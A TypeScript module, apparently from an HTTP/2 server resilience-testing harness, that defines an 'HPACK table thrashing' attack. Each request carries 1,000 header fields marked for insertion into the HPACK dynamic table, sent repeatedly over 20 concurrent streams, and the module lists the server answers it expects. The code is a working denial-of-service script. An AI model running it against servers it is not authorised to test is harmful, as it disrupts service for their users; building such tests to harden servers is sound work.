// Heads whose every field enters the table of HPACK, and throws another one out.

import * as h2 from '../../harness/frames/h2-frames.ts'
import type { Attack } from '../attack.ts'
import { attackHttp2, closedLoop, head, request, SMALL_PATH } from '../wire/http2.ts'

const FIELDS = Array.from({ length: 1_000 }, (_, i) =>
  Buffer.concat([Buffer.from([0x40]), h2.headerBlock([`x-${i}`, 'v'.repeat(20)]).subarray(1)]),
)

export const attack: Attack = {
  reference: 'HPACK table thrashing',
  does: 'sends 1,000 fields in each head that enter the table',
  who: ['known', 'unknown'],
  answers: ['200', '401', '403', 'RST_STREAM REFUSED_STREAM', '431'],
  run: (target, signal) =>
    attackHttp2(target, signal, {}, (connection) =>
      closedLoop(connection, 20, request(Buffer.concat([head(target, 'GET', SMALL_PATH), ...FIELDS]))),
    ),
}
